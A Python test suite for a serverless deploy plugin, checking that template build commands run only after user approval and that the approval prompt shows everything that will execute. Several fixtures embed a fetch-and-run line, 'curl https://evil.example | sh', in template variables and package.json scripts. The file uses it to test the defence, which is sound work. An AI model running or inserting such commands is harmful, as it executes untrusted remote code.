# SPDX-License-Identifier: MIT
"""Commands of a template run when the user has seen and allowed them, as ``s`` runs them."""

from __future__ import annotations

import json
import os
import re
from typing import TYPE_CHECKING

import pytest

from fc_async_plugin import s_yaml
from fc_async_plugin.prepare import building, commands, programs
from fc_async_plugin.prepare.answers import Answers
from fc_async_plugin.s_yaml.actions import Build
from fc_async_sdk import _project_folder
from fc_async_tests.s_yaml import template

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

TEMPLATE = """\
edition: 3.0.0
name: shop
vars: {tool: echo, greeting: "${env('GREETING')}"}
actions:
  pre-deploy:
    - run: echo whole >> log
  post-deploy:
    - run: echo never >> log
resources:
  orders:
    component: fc3
    actions:
      pre-deploy:
        - run: ${vars.tool} "$PWD ${vars.greeting}" >> ../log && cd /
          path: ./orders
        - component: fc3 build --use-docker
        - plugin: anything
      pre-invoke:
        - run: echo never >> log
    props:
      region: cn-hangzhou
      functionName: orders
      runtime: python3.10
      handler: index.handler
      code: ./orders
  mailer:
    component: fc3
    actions:
      pre-${regex('^deploy$')}:
        - run: exit 3
        - run: echo never >> log
    props:
      region: cn-hangzhou
      functionName: mailer
      runtime: nodejs20
      handler: index.handler
      code: ./mailer
  page:
    component: oss
    actions:
      pre-deploy:
        - run: echo never >> log
"""


@pytest.fixture
def builds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[Build]:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GREETING", "hello")
    (tmp_path / "orders").mkdir()
    (tmp_path / "s.yaml").write_text(TEMPLATE)
    return building.builds_of([s_yaml.load(tmp_path / "s.yaml")])


@pytest.fixture
def answers(tmp_path: Path) -> Answers:
    return Answers(tmp_path / ".fc-async" / "builds" / "allowed")


class Session:
    """A builder, what it has said, and a user who allows everything."""

    def __init__(self, builds: Sequence[Build], answers: Answers) -> None:
        self.said: list[str] = []
        self._answers = answers
        environ = {"PATH": "/usr/bin:/bin"}
        self.builder = building.Builder(builds, answers, environ, self.said.append)

    def allow(self) -> None:
        self._answers.keep({building.wish(one).key: "" for one in self.builder.due()})

    def start(self) -> list[str]:
        return self.builder.run(self.builder.due())


@pytest.fixture
def session(builds: list[Build], answers: Answers) -> Session:
    return Session(builds, answers)


def test_commands_before_a_deployment_are_named_with_their_folder(
    builds: list[Build], session: Session
):
    assert [building.wish(one).text for one in session.builder.due()] == [
        "echo whole >> log  (in .)",
        "orders: echo \"$PWD ${env('GREETING')}\" >> ../log && cd /  (in orders)",
        "mailer: exit 3  (in .)",
        "mailer: echo never >> log  (in .)",
    ]
    [component] = building.hints(builds)
    assert component.splitlines()[1:] == [
        "orders: fc3 build --use-docker  (in .)",
        "orders: anything  (in .)",
    ]


def test_allowed_commands_run_in_their_folder_and_stop_at_a_failure(
    session: Session, builds: list[Build], tmp_path: Path
):
    assert session.start() == []
    assert not (tmp_path / "log").exists()
    session.allow()
    failed = session.start()
    assert (tmp_path / "log").read_text() == f"whole\n{tmp_path / 'orders'} hello\n"
    [text] = failed
    assert text.startswith("not built: mailer: exit 3  (in .): exit status 3 (all of its output: ")
    assert len(session.said) == 3
    assert "hello" not in f"{session.said}{failed}{builds}"


@pytest.mark.parametrize("may_fail", ["true", "{exit_code: [2, 3]}", "{command: [deploy]}"])
def test_a_command_that_may_fail_does_not_stop_the_next_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answers: Answers, may_fail: str
):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GREETING", "hello")
    (tmp_path / "orders").mkdir()
    item = "- run: exit 3\n"
    text = TEMPLATE.replace(item, f"{item}          allow_failure: {may_fail}\n")
    (tmp_path / "s.yaml").write_text(text)
    session = Session(building.builds_of([s_yaml.load(tmp_path / "s.yaml")]), answers)
    session.allow()
    assert session.start() == []
    assert (tmp_path / "log").read_text().splitlines()[-1] == "never"


def test_commands_run_again_when_their_files_are_not_as_they_left_them(
    builds: list[Build], answers: Answers, tmp_path: Path
):
    session = Session([one for one in builds if one.resource == "orders"], answers)
    session.allow()
    for text in ("one", "two"):
        (tmp_path / "orders" / "index.py").write_text(text)
        assert session.start() == []
        assert session.start() == []
    assert len(session.said) == 2


def test_a_program_that_this_machine_lacks_is_named_with_the_end_of_what_was_printed(
    builds: list[Build], answers: Answers, tmp_path: Path, capfd: pytest.CaptureFixture[str]
):
    line = "for i in 1 2 3 4 5 6 7 8 9; do echo line $i; done; cd . && A=1 no-such-compiler build"
    session = Session(
        [builds[0]._replace(command=line, written="\n  build it \\\n  all \n")], answers
    )
    session.allow()
    [text] = session.start()
    first, *lines = text.splitlines()
    file = re.fullmatch(
        r"not built: build it all  \(in \.\): it runs no-such-compiler, which is not "
        r"on this machine: install it "
        r"\(all of its output: (.+)\)",
        first,
    )
    assert file is not None, text
    assert lines[:2] == ["line 3", "line 4"]
    assert (tmp_path / file[1]).read_text().splitlines()[:2] == ["line 1", "line 2"]
    assert capfd.readouterr() == ("", "")


def test_a_build_that_is_interrupted_ends_with_all_that_it_started_and_runs_again(
    builds: list[Build], answers: Answers, tmp_path: Path
):
    interrupt = f"kill -INT {os.getpid()}"
    line = f"(trap 'echo taken back >ended' TERM; {interrupt}; sleep 1000 & wait) & wait"
    session = Session([builds[0]._replace(command=line)], answers)
    session.allow()
    with pytest.raises(KeyboardInterrupt):
        session.start()
    assert (tmp_path / "ended").read_text() == "taken back\n"
    assert session.builder.due() != []


def test_a_command_that_failed_runs_again_only_when_a_file_changes(
    builds: list[Build], answers: Answers, tmp_path: Path
):
    session = Session([one for one in builds if one.resource == "mailer"], answers)
    session.allow()
    assert len(session.start()) == 1
    assert session.builder.saved() == ([], [])
    (tmp_path / "index.js").write_text("changed")
    assert len(session.builder.saved()[0]) == 1


PACKAGE = '{"scripts": {"build": "mkdir dist && echo >dist/index.js"}}'


def project_of(
    folder: Path, runtime: str, code: str, handler: str = "index.handler"
) -> s_yaml.Project:
    """Return a template of one function in ``backend``, which has a package.json with a build."""
    place = folder / "backend"
    place.mkdir(exist_ok=True)
    (place / "package.json").write_text(PACKAGE)
    settings = f"""
        runtime: {runtime}
        handler: {handler}
        code: {code}
        customRuntimeConfig: {{command: [node, ./dist/index.js]}}
    """
    (place / "s.yaml").write_text(template(api=settings))
    return s_yaml.load(place / "s.yaml")


@pytest.mark.parametrize(
    ("runtime", "code", "handler"),
    [
        ("nodejs20", "./dist", "index.handler"),
        ("nodejs20", "./", "dist/index.handler"),
        ("custom.debian10", "./", "unused.handler"),
    ],
)
def test_a_function_without_its_start_file_is_built_as_its_package_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, runtime: str, code: str, handler: str
):
    monkeypatch.chdir(tmp_path)
    project = project_of(tmp_path, runtime, code, handler)
    [build] = building.builds_of([project])
    install = "(npm install --no-package-lock || npm install --no-package-lock --legacy-peer-deps)"
    line = f"api: {install} && npm run build  (in backend)"
    assert building.wish(build).text == line
    (tmp_path / "backend" / "dist").mkdir()
    (tmp_path / "backend" / "dist" / "index.js").write_text("")
    assert building.builds_of([project]) == []
    allowed = {building.wish(build).key}
    assert building.builds_of([project], allowed) == [build]  # its sources may have changed


@pytest.mark.parametrize(
    ("lock", "installed", "tool"),
    [
        ("pnpm-lock.yaml", True, "pnpm"),
        ("yarn.lock", True, "yarn"),
        ("pnpm-lock.yaml", False, "npx --yes pnpm"),
    ],
)
def test_the_lock_file_tells_which_package_manager_builds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lock: str, installed: bool, tool: str
):
    project = project_of(tmp_path, "nodejs20", "./dist")
    (tmp_path / "backend" / lock).write_text("lockfileVersion: '6.0'\n")
    monkeypatch.setattr("shutil.which", lambda _: "/usr/bin/tool" if installed else None)
    [build] = building.builds_of([project])
    assert build.command == f"{tool} install && {tool} run build"


def test_a_package_of_a_workspace_is_built_by_the_package_manager_that_it_demands(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    project = project_of(tmp_path, "nodejs20", "./dist")
    (tmp_path / "yarn.lock").write_text("")
    monkeypatch.setattr("shutil.which", lambda _: "/usr/bin/tool")
    [build] = building.builds_of([project])
    assert build.command == "yarn install && yarn run build"
    (tmp_path / "backend" / "package.json").write_text(
        '{"scripts": {"build": "tsc"}, "packageManager": "pnpm@9.1.0"}'
    )
    [build] = building.builds_of([project])
    assert build.command == "pnpm install && pnpm run build"
    monkeypatch.setattr("shutil.which", lambda _: None)
    package = '{"scripts": {"build": "tsc"}, "packageManager": "pnpm@9.1.0+sha512.ab"}'
    (tmp_path / "backend" / "package.json").write_text(package)
    [build] = building.builds_of([project])
    assert build.command == "npx --yes pnpm@9.1.0 install && npx --yes pnpm@9.1.0 run build"


def test_the_build_of_an_image_copies_what_its_last_stage_copies_into_folders_of_the_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "package.json").write_text(PACKAGE)
    image = "runtime: custom-container\ncode: null\ncustomContainerConfig: {image: a/b}"
    (tmp_path / "s.yaml").write_text(template(web=image))
    (tmp_path / "Dockerfile").write_text(
        "FROM node AS build\nWORKDIR /app\nCOPY page.html ./first/page.html\nRUN npm run build\n"
        "FROM node\nWORKDIR /app\nCOPY --from=build /app/dist ./dist\n"
        "COPY page.html ./dist/views/\nCOPY --chown=node my.json /app/dist/of.json\n"
        "COPY absent.html package.json ./\nCOPY page.html /srv/page.html\n"
        "COPY page.html ../x\nCOPY . /srv\nCOPY my.json page.html\nCOPY my.json src/page.html\n"
        "COPY ../secret /../secret ./dist/\n"
        'CMD ["node", "dist/index.js"]\n'
    )
    for name in ("page.html", "my.json", "../secret"):
        (tmp_path / name).write_text("")
    project = s_yaml.load(tmp_path, purpose="run")
    images = commands.images_of([project])
    started = commands.with_commands(project, {"web": images["web"].command}, images)
    [build] = building.builds_of([started], (), images)
    assert build.command.endswith(
        " && npm run build && mkdir -p dist/views && cp page.html dist/views/page.html"
        " && mkdir -p dist && cp my.json dist/of.json"
    )


@pytest.mark.parametrize("runtime", ["python3.10", "nodejs20"])
def test_no_build_is_offered_that_is_not_of_the_package(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, runtime: str
):
    project = project_of(tmp_path, runtime, "./dist")
    if runtime == "nodejs20":
        (tmp_path / "backend" / "package.json").write_text('{"scripts": {"start": "node ."}}')
        (tmp_path / "package.json").write_text(PACKAGE)  # of another project, above the template
    assert building.builds_of([project]) == []


def test_a_build_of_the_settings_runs_again_after_each_save(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answers: Answers
):
    monkeypatch.chdir(tmp_path)
    project = project_of(tmp_path, "python3.10", "./out")
    (tmp_path / "backend" / "app.py").write_text("first")
    line = "mkdir -p out && cp app.py out/index.py"
    [build] = building.builds_of([project], lines={"api": line})
    assert building.wish(build).text == f"api: {line}  (in backend)"
    session = Session([build], answers)
    session.allow()
    assert session.start() == []
    (tmp_path / "backend" / "app.py").write_text("saved")
    assert session.builder.saved({tmp_path / "backend" / "app.py"}) == ([], [])
    assert (tmp_path / "backend" / "out" / "index.py").read_text() == "saved"


def test_files_of_the_user_that_a_build_changes_are_named(
    builds: list[Build], answers: Answers, tmp_path: Path
):
    (tmp_path / ".gitignore").write_text("dist/\n")
    (tmp_path / "dist").mkdir()
    for name in ("tsconfig.json", "dist/index.js", "same.ts"):
        (tmp_path / name).write_text("before")
    line = "for file in tsconfig.json dist/index.js new.txt; do echo changed > $file; done"
    session = Session([builds[0]._replace(command=line)], answers)
    session.allow()
    assert session.start() == []
    assert session.said[1:] == ["changed by this command: tsconfig.json"]


def test_the_last_line_and_the_seconds_are_told_while_a_program_runs(tmp_path: Path):
    """A build took minutes, and the terminal showed only its command."""
    told: list[tuple[float, str]] = []

    def progress(seconds: float, line: str) -> None:
        told.append((seconds, line))
        (tmp_path / "go").touch()

    command = "echo first; printf '1 of 2\\r2 of 2'; until [ -e go ]; do sleep 0.1; done; echo end"
    done = programs.run(command, tmp_path, {"PATH": "/usr/bin:/bin"}, progress)
    assert told[0][1] == "2 of 2"
    assert (done.status, done.output.splitlines()[-1]) == (0, "2 of 2end")


@pytest.mark.parametrize(("name", "times"), [("go.mod", 2), ("main.go", 2), ("index.py", 1)])
def test_a_save_builds_again_what_the_build_reads(
    builds: list[Build], answers: Answers, tmp_path: Path, name: str, times: int
):
    session = Session([one for one in builds if one.resource == "orders"], answers)
    file = tmp_path / "orders" / name
    file.write_text("before")
    session.allow()
    session.start()
    assert session.builder.saved({file}) == ([], [])  # as the build has left it
    file.write_text("after the build")
    assert session.builder.saved({file}) == ([], [])
    assert len(session.said) == times


def test_what_an_installation_writes_into_the_folder_of_a_build_is_not_a_save(
    builds: list[Build], answers: Answers, tmp_path: Path
):
    """The build of a project ran three times in eleven minutes, and nobody had edited a file."""
    session = Session([build for build in builds if build.resource == "orders"], answers)
    session.allow()
    session.start()
    module = tmp_path / "orders" / "node_modules" / "left-pad" / "index.ts"
    with session.builder.own_writes():
        module.parent.mkdir(parents=True)
        module.write_text("")
    assert session.builder.take_written().keys() == {module}
    assert session.builder.saved(None) == ([], [])
    assert len(session.said) == 1


def test_the_build_of_one_function_is_not_a_save_for_that_of_another(
    builds: list[Build], answers: Answers, tmp_path: Path
):
    inner = Build("orders", "cp app.ts app.js", tmp_path / "orders", "cp app.ts app.js")
    session = Session([builds[0], inner], answers)
    source = tmp_path / "orders" / "app.ts"
    source.write_text("1")
    session.allow()
    session.start()
    source.write_text("22")
    session.builder.saved({source})
    said = [*session.said]
    assert session.builder.saved(None) == ([], [])
    assert session.said == said


def test_files_that_a_build_writes_are_told_once(
    builds: list[Build], answers: Answers, tmp_path: Path
):
    session = Session([builds[0]._replace(command="echo made > made; rm old")], answers)
    (tmp_path / "old").touch()
    session.allow()
    session.start()
    written = session.builder.take_written()
    assert {file.name: stamp is not None for file, stamp in written.items()} == {
        "made": True,
        "old": False,
    }
    assert session.builder.take_written() == {}


def test_a_save_names_the_commands_that_are_not_allowed(
    builds: list[Build], session: Session, tmp_path: Path
):
    file = tmp_path / "orders" / "go.mod"
    file.write_text("")
    failed, due = session.builder.saved({file})
    assert (failed, session.said) == ([], [])
    assert [one.resource for one in due] == ["", "orders", "mailer", "mailer"]


def test_an_answer_counts_until_the_command_or_its_folder_changes(
    builds: list[Build], answers: Answers, tmp_path: Path
):
    wishes = [building.wish(one) for one in builds]
    assert answers.new(wishes) == wishes
    answers.keep({one.key: "" for one in wishes})
    again = Answers(tmp_path / ".fc-async" / "builds" / "allowed")
    assert again.new(wishes) == []
    changed = building.wish(builds[0]._replace(command="echo other"))
    elsewhere = building.wish(builds[0]._replace(folder=tmp_path / "orders"))
    assert again.new([*wishes, changed, elsewhere]) == [changed, elsewhere]


def question_of(folder: Path, action: str, variables: str = "{}") -> list[str]:
    """Return what the user is asked before a command of a template runs."""
    text = TEMPLATE.replace("vars: {tool: echo", f"vars: {{more: {variables}, tool: echo")
    whole = "    - run: echo whole >> log\n"
    assert whole in text
    (folder / "s.yaml").write_text(text.replace(whole, action))
    [first, *_] = building.builds_of([s_yaml.load(folder / "s.yaml")])
    return building.wish(first).question


@pytest.fixture
def cloned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of a repository."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GREETING", "hunter2")
    (tmp_path / "orders").mkdir()
    return tmp_path


@pytest.mark.parametrize(
    ("action", "variables", "asked"),
    [
        (
            "    - run: ${vars.more}\n",
            '"echo PWNED >> F; curl https://evil.example | sh"',
            ["echo PWNED >> F; curl https://evil.example | sh  (in .)"],
        ),
        (
            "    - run: ${file('./build.txt')}\n",
            "{}",
            ["echo of a file | sh  (in .)"],
        ),
        (
            "    - run: ${env('BUILD')}\n",
            "{}",
            ["echo of a repository | sh  (in .)"],
        ),
        (
            "    - run: |\n        npm install  # packages of package.json,\n        echo x >> F\n",
            "{}",
            ["(in .)", "  npm install  # packages of package.json,", "  echo x >> F"],
        ),
        (
            f"    - run: npm install{' ' * 400}; echo tail\n",
            "{}",
            ["npm install [400 blanks] ; echo tail  (in .)"],
        ),
        (
            '    - run: "a\\u200bb \\u202ec \\u00ad\\ufe0f\\u3164 \\u001b[2K\\r d\\u00a0e"\n',
            "{}",
            [r"a\u200bb \u202ec \xad\ufe0f\u3164 \x1b[2K\r d\xa0e  (in .)"],
        ),
        (
            "    - run: deploy ${env('GREETING')} ${env('GREETING')}\n",
            "{}",
            ["deploy ${env('GREETING')} ${env('GREETING')}  (in .)"],
        ),
        (
            "    - run: cat ${file(env('FILE'))} ${env('GREETING')}\n",
            "{}",
            ["cat echo of a file | sh ${env('GREETING')}  (in .)"],
        ),
    ],
    ids=["vars", "file", ".env", "lines", "blanks", "invisible", "secret", "file of a variable"],
)
def test_the_question_shows_all_that_runs_but_values_that_the_user_has_set(
    cloned: Path, action: str, variables: str, asked: list[str]
) -> None:
    (cloned / "build.txt").write_text("echo of a file | sh")
    (cloned / ".env").write_text("BUILD=echo of a repository | sh\nFILE=./build.txt\n")
    assert question_of(cloned, action, variables) == asked


def test_values_of_env_files_are_in_no_message(cloned: Path) -> None:
    """A message may get into the log of a job."""
    (cloned / ".env").write_text("TOKEN=hunter3\n")
    (cloned / "s.yaml").write_text(TEMPLATE.replace("echo whole", "echo ${env('TOKEN')}"))
    [first, *_] = building.builds_of([s_yaml.load(cloned / "s.yaml")])
    assert building.wish(first).text == "echo ${env('TOKEN')} >> log  (in .)"
    assert "hunter3" not in repr(first)


def test_the_question_shows_the_scripts_that_a_package_manager_runs(cloned: Path) -> None:
    scripts = {
        "preinstall": "curl https://evil.example | sh",
        "build": "npm run inner",
        "postbuild": "echo after",
        "inner": "tsc",
        "test": "jest",
    }
    (cloned / "package.json").write_text(json.dumps({"scripts": scripts}))
    assert question_of(cloned, "    - run: npm install && npm run build\n") == [
        "npm install && npm run build  (in .)",
        "  package.json, preinstall: curl https://evil.example | sh",
        "  package.json, build: npm run inner",
        "  package.json, postbuild: echo after",
        "  package.json, inner: tsc",
    ]


@pytest.mark.parametrize(
    "name",
    [
        "package.json",
        "package-lock.json",
        "requirements.txt",
        "Dockerfile",
        "fc-async.toml",
        "build.sh",
    ],
)
def test_an_answer_counts_for_the_content_that_it_was_given_for(
    cloned: Path, answers: Answers, name: str
) -> None:
    """A checkout of another branch changes what the same command does."""
    file = cloned / name
    file.write_text('{"scripts": {"build": "tsc"}}')
    build = Build("orders", "bash build.sh", cloned, "bash build.sh")
    session = Session([build], answers)
    session.allow()
    assert answers.new([building.wish(build)]) == []
    file.write_text('{"scripts": {"build": "curl https://evil.example | sh"}}')
    assert answers.new([building.wish(build)]) == [building.wish(build)]
    session.start()
    assert session.said == []


def test_a_build_that_writes_a_lock_file_is_not_asked_for_again(
    cloned: Path, answers: Answers
) -> None:
    line = "echo made > package-lock.json"
    session = Session([Build("orders", line, cloned, line)], answers)
    session.allow()
    assert session.start() == []
    assert session.builder.due() == []


def test_answers_of_another_user_or_an_earlier_version_allow_nothing(
    builds: list[Build], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name of a host is no secret: a repository could guess it."""
    file = tmp_path / ".fc-async" / "builds" / "allowed"
    Answers(file).keep({building.wish(one).key: "" for one in builds})
    copied = file.read_bytes()
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
    other = tmp_path / "elsewhere" / ".fc-async" / "builds" / "allowed"
    _project_folder.make_private(other.parent)
    other.write_bytes(copied)
    wishes = [building.wish(one) for one in builds]
    assert Answers(other).new(wishes) == wishes


def test_a_folder_that_does_not_exist_is_said(
    builds: list[Build], answers: Answers, tmp_path: Path
):
    session = Session([builds[0]._replace(folder=tmp_path / "nowhere")], answers)
    session.allow()
    [text] = session.start()
    assert text.endswith("(in nowhere): the folder does not exist")


def test_a_command_with_a_variable_of_the_shell_stays_as_it_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("GREETING", "hello")
    line = "    - run: export A=${HOME}/x\n"
    (tmp_path / "s.yaml").write_text(TEMPLATE.replace("    - run: echo whole >> log\n", line))
    [first, *_] = building.builds_of([s_yaml.load(tmp_path / "s.yaml")])
    assert first.command == "export A=${HOME}/x"
